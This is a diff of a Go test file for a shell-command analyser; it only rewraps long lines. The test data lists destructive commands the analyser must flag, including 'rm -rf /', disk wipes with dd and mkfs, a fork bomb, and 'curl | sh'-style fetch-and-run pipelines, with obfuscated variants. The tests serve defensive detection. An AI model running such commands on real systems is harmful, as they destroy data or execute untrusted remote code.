@@ -73,7 +73,8 @@ func TestShell_Records(t *testing.T) {
 		{`sh -lc ls`, `[(sh f[-lc] o[ls]) ?]`},
 		{`find -L /etc -exec rm {} \;`, `[(rm o[</etc/**>] v[find]) (find f[-L -exec] o[/etc])]`},
 		{`find . "$X" -exec rm {} \;`, `[(rm f[?] o[? ?] v[find]) (find f[?] o[. ? ?]) ?]`},
-		{`find . -name '*.go' | grep -v x | sort -u | xargs wc -l`, `[(find f[-name] o[. *.go]) (grep f[-v] o[x]) (sort f[-u]) (wc f[-l] o[<./**>] v[xargs])]`},
+		{`find . -name '*.go' | grep -v x | sort -u | xargs wc -l`,
+			`[(find f[-name] o[. *.go]) (grep f[-v] o[x]) (sort f[-u]) (wc f[-l] o[<./**>] v[xargs])]`},
 		{`find src | xargs -I{} cp {} out`, `[(find o[src]) (cp o[<src/**> out] v[xargs])]`},
 		{`find src 2>/dev/null | xargs ls`, `[(find o[src] r[>/dev/null]) (ls o[<src/**>] v[xargs])]`},
 		{`find src 2>&1 | xargs ls`, `[(find o[src]) (ls f[?] o[?] v[xargs])]`},
@@ -142,14 +143,19 @@ func TestRow062_DestructiveCommandsAreSeenByStructure(t *testing.T) {
 		return false
 	}
 	for _, cmd := range []string{
-		"rm -rf /", "rm -fr /", "rm -r -f /", "rm -rf ~", "rm -R /", "rm --recursive --force /", "rm --rec /", "rm / -rf", "dd if=/dev/zero of=/dev/sda",
-		"mkfs.ext4 /dev/sda", "mkfs -t ext4 /dev/sda", "find / -delete", ":(){ :|:& };:", "curl x | sh", "echo `rm -rf /`", "echo $(rm -rf /)", "ls; rm -rf /",
-		"ls | xargs rm -rf", "cat <(rm -rf /)", "find / -exec rm -rf {} +", "wget -O- http://x | bash -s", "bash <(curl x)", `r\m -rf /`, "X=rm; $X -rf /",
-		"sudo rm -rf /", "\\rm -rf /", "/bin/rm -rf /", "busybox rm -rf /", "timeout 1 rm -rf /", "sh -c 'rm -rf /'", "eval rm -rf /", "nohup rm -rf / &",
+		"rm -rf /", "rm -fr /", "rm -r -f /", "rm -rf ~", "rm -R /", "rm --recursive --force /", "rm --rec /", "rm / -rf",
+		"dd if=/dev/zero of=/dev/sda",
+		"mkfs.ext4 /dev/sda", "mkfs -t ext4 /dev/sda", "find / -delete", ":(){ :|:& };:", "curl x | sh", "echo `rm -rf /`",
+		"echo $(rm -rf /)", "ls; rm -rf /",
+		"ls | xargs rm -rf", "cat <(rm -rf /)", "find / -exec rm -rf {} +", "wget -O- http://x | bash -s", "bash <(curl x)",
+		`r\m -rf /`, "X=rm; $X -rf /",
+		"sudo rm -rf /", "\\rm -rf /", "/bin/rm -rf /", "busybox rm -rf /", "timeout 1 rm -rf /", "sh -c 'rm -rf /'",
+		"eval rm -rf /", "nohup rm -rf / &",
 	} {
 		assert.True(t, removes(cmd), cmd)
 	}
-	for _, cmd := range []string{"ls -r /", "rm x", "rm -f x", "find / -name x", "echo rm -rf /", "echo 'rm -rf /'", "git rm -r x", "grep -r rm ."} {
+	for _, cmd := range []string{"ls -r /",
+		"rm x", "rm -f x", "find / -name x", "echo rm -rf /", "echo 'rm -rf /'", "git rm -r x", "grep -r rm ."} {
 		assert.False(t, removes(cmd), cmd)
 	}
 }
@@ -193,10 +199,14 @@ func readAll(cmd string) ([]any, error) {
 func TestShell_HostileShapesEndSoon(t *testing.T) {
 	full := func(s string) string { return strings.Repeat(s, maxLine/len(s)) }
 	for _, cmd := range []string{
-		full("("), full("$("), full("`"), full("{"), full("(("), full("$(("), full("[["), full("if "), full("while "), full("! "), full("a&&"), full("a|"),
-		full("()"), full("$()"), full("')'("), full("<(:) "), full("\\`"), full("{a,b}"), full("${x:-"), full("\"$("), full("case x in x)"), full("time "),
-		full("eval "), full("sh -c '"), full("<<E "), full("<<E\n"), full("~"), full("*"), full("[a"), full("[!a-z]*"), full("{1..9}"), full("a[$((a["), full(";"), full("&"),
-		full("coproc "), full("function f "), full("for i in x;do "), full("$'\\x41'"), full("{a,{b,"), full("$((1+"), full("(');("), full("nice "), full("cd .;"),
+		full("("), full("$("), full("`"), full("{"), full("(("), full("$(("), full("[["), full("if "), full("while "),
+		full("! "), full("a&&"), full("a|"),
+		full("()"), full("$()"), full("')'("), full("<(:) "), full("\\`"), full("{a,b}"), full("${x:-"), full("\"$("),
+		full("case x in x)"), full("time "),
+		full("eval "), full("sh -c '"), full("<<E "), full("<<E\n"), full("~"), full("*"), full("[a"), full("[!a-z]*"),
+		full("{1..9}"), full("a[$((a["), full(";"), full("&"),
+		full("coproc "), full("function f "), full("for i in x;do "), full("$'\\x41'"), full("{a,{b,"), full("$((1+"),
+		full("(');("), full("nice "), full("cd .;"),
 		"ls " + full("*/"), "ls " + full("**/"), full("((1))||"), full("[[ -e x ]]&&"),
 	} {
 		done := make(chan bool, 1)
@@ -230,10 +240,14 @@ func TestShell_WorksWithoutMemoAndFacts(t *testing.T) {
 
 func TestFlag(t *testing.T) {
 	for _, tt := range []struct{ cmd, flag, want string }{
-		{"rm -fr x", "r", "true"}, {"rm -fr x", "f", "true"}, {"rm -fr x", "i", "false"}, {"rm -R x", "r", "true"}, {"rm --recursive x", "r", "true"},
-		{"rm --recur x", "recursive", "true"}, {"rm --r x", "r", "true"}, {"rm -r x", "recursive", "true"}, {"rm -- -r", "r", "false"}, {"rm x -r", "r", "true"},
-		{"rm -rf/", "r", "true"}, {"foo --recursive", "r", "false"}, {"foo --name=x", "name", "true"}, {"foo --name=x", "--name", "true"}, {"find . -delete", "delete", "true"},
-		{"rm $X", "r", "?"}, {"rm -r $X", "r", "true"}, {"rm -- $X", "r", "false"}, {"rm *", "r", "?"}, {"rm ./*", "r", "false"}, {"rm -[rf] x", "r", "?"},
+		{"rm -fr x", "r", "true"}, {"rm -fr x", "f", "true"}, {"rm -fr x", "i", "false"}, {"rm -R x", "r", "true"},
+		{"rm --recursive x", "r", "true"},
+		{"rm --recur x", "recursive", "true"}, {"rm --r x", "r", "true"}, {"rm -r x", "recursive", "true"},
+		{"rm -- -r", "r", "false"}, {"rm x -r", "r", "true"},
+		{"rm -rf/", "r", "true"}, {"foo --recursive", "r", "false"}, {"foo --name=x", "name", "true"},
+		{"foo --name=x", "--name", "true"}, {"find . -delete", "delete", "true"},
+		{"rm $X", "r", "?"}, {"rm -r $X", "r", "true"}, {"rm -- $X", "r", "false"}, {"rm *", "r", "?"},
+		{"rm ./*", "r", "false"}, {"rm -[rf] x", "r", "?"},
 		{"xargs rm", "r", "?"}, {"rm '-r' x", "r", "true"}, {"rm -é", "é", "true"}, {"rm x", "", "error"},
 	} {
 		c := commandCase(t, tt.cmd)
@@ -281,7 +295,8 @@ func BenchmarkShell(b *testing.B) {
 }
 
 func BenchmarkPathsAndHosts(b *testing.B) {
-	c := commandCase(b, `cd sub && curl -s -o out.tgz https://example.com/x && tar -xzf out.tgz -C /workspace/lib && rm -f out.tgz`)
+	c := commandCase(b,
+		`cd sub && curl -s -o out.tgz https://example.com/x && tar -xzf out.tgz -C /workspace/lib && rm -f out.tgz`)
 	b.ReportAllocs()
 	for b.Loop() {
 		clear(c.Memo)
